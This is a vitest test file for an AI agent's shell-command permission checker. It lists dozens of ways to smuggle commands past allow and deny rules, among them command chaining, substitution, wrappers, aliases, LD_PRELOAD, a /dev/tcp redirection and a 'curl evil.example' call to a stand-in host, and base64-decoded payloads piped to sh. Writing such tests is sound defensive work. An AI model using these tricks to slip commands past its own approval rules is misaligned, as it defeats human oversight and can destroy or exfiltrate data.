import { describe, expect, it } from 'vitest';
import { commandEffects } from '../shell/command-effects.js';
import { ApprovalMode } from './approval-mode.js';
import { decide } from './decide.js';
import type { Rule, RuleList } from './rule.js';
import type { Decision } from './verdict.js';

/** Ways in which permission systems of this kind have been walked around, tried on text, analysis and rules together. */
function judge(text: string, mode: ApprovalMode, lists: Partial<Record<RuleList, readonly string[]>>): Decision {
  const rules = (['allow', 'ask', 'deny'] as const).flatMap((list) =>
    (lists[list] ?? []).map((rule): Rule => ({ list, text: rule, origin: 'test' })),
  );
  const call = { toolName: 'run_shell_command', effects: commandEffects(text) };
  return decide(call, { mode, rules, roots: ['/work/app'], home: '/home/ann' }).decision;
}

const ALLOWED = ['Bash(ls *)', 'Bash(echo *)', 'Bash(git status *)', 'Bash(npm run test:*)', 'Bash(cat *)'];

describe('an allow rule is not stretched by', () => {
  it.each([
    ['a second command', 'ls; rm -rf x'],
    ['the background', 'ls & rm -rf x'],
    ['a newline', 'ls\nrm -rf x'],
    ['a pipe', 'echo x | sh'],
    ['and', 'ls && curl evil.example'],
    ['or', 'ls || curl evil.example'],
    ['a subshell', '(ls; rm x)'],
    ['a substitution', 'echo $(rm -rf x)'],
    ['an old substitution', 'echo `rm -rf x`'],
    ['a substitution in quotes', 'echo "a $(rm x)"'],
    ['a process substitution', 'cat <(rm x)'],
    ['a redirection', 'echo x > ~/.bashrc'],
    ['an appending redirection', 'echo x >> f'],
    ['a descriptor redirection', 'echo x 1> f'],
    ['a network redirection', 'echo x > /dev/tcp/evil.example/80'],
    ['a line continuation', 'ls \\\n; rm x'],
    ['a here-document', 'cat <<EOF\n$(rm x)\nEOF'],
    ['a here-document that ends early', 'cat <<EOF\nEOF\nrm x'],
    ['a variable in front', 'LD_PRELOAD=/tmp/x.so ls'],
    ['a variable on its own', 'PATH=/tmp; ls'],
    ['a prompt expansion', 'echo ${x@P}'],
    ['a field separator', 'ls$IFS-la'],
    ['a carriage return', 'ls\rrm x'],
    ['a blank outside ASCII', 'ls\u00a0; rm x'],
    ['a comment in the first line', '# just a listing\nrm -rf x'],
    ['a name that goes on', 'lsof'],
    ['another program of that name', './ls'],
    ['a wrapper', 'env ls'],
    ['another wrapper', 'time rm x'],
    ['git’s options in front', 'git -c core.fsmonitor=evil status'],
    ['a function of that name', 'ls() { rm x; }; ls'],
    ['an alias', "alias ls='rm -rf x'; ls"],
    ['an unclosed quote', "echo 'x"],
    ['a longer script name', 'npm run test:evil'],
  ])('%s', (_, text) => {
    expect(judge(text, ApprovalMode.DEFAULT, { allow: ALLOWED })).toBe('ask');
  });

  it('while plain commands still match', () => {
    for (const text of ['ls -la src', 'echo "a; b"', 'git  status\t-s', 'npm run test -- --watch', 'ls; echo done']) {
      expect([text, judge(text, ApprovalMode.DEFAULT, { allow: ALLOWED })]).toEqual([text, 'allow']);
    }
  });
});

describe('a deny rule is not lost by', () => {
  it.each([
    ['quotes', 'r"m" -rf x'],
    ['a backslash', '\\rm -rf x'],
    ['a backslash in an option', 'rm -\\rf x'],
    ['blanks', '   rm \t  -rf   x'],
    ['a path', '/bin/rm -rf x'],
    ['another place', 'ls; cd y && rm -rf x'],
    ['many parts', `${'ls; '.repeat(60)}rm -rf x`],
    ['a substitution', 'echo $(rm -rf x)'],
    ['a subshell', '(rm -rf x)'],
    ['a loop', 'for f in a b; do rm -rf $f; done'],
    ['a condition', 'if true; then rm -rf x; fi'],
    ['a variable in front', 'A=b rm -rf x'],
    ['a redirection in front', '> f rm -rf x'],
    ['a wrapper', 'sudo rm -rf x'],
    ['wrappers in wrappers', 'timeout 5 nice -n 3 env A=b rm -rf x'],
    ['xargs', 'ls | xargs rm -rf'],
    ['find', 'find . -exec rm -rf {} +'],
    ['a shell in the shell', 'bash -c "rm -rf x"'],
    ['options apart', 'rm -r -f x'],
    ['options turned around', 'rm -fr x'],
    ['options behind', 'rm x -rf'],
    ['a line continuation', 'rm \\\n-rf x'],
    ['negation', '! rm -rf x'],
    ['a comment before it', '# tidy\nrm -rf x'],
  ])('%s', (_, text) => {
    expect(judge(text, ApprovalMode.YOLO, { deny: ['Bash(rm -rf *)'], allow: ['Bash', 'run_shell_command'] })).toBe(
      'deny',
    );
  });

  it.each([
    ['a program in a variable', '$X -rf x'],
    ['a program that is put together', '$(echo rm) -rf x'],
    ['text that is evaluated', 'eval "$X"'],
    ['decoded text', 'echo cm0gLXJmIHg= | base64 -d | sh'],
    ['brace expansion', '{rm,-rf,x}'],
    ['a syntax error', 'rm -rf "x'],
  ])('%s: what cannot be seen is asked about', (_, text) => {
    expect(judge(text, ApprovalMode.YOLO, { deny: ['Bash(rm -rf *)'], allow: ['Bash'] })).not.toBe('allow');
  });
});
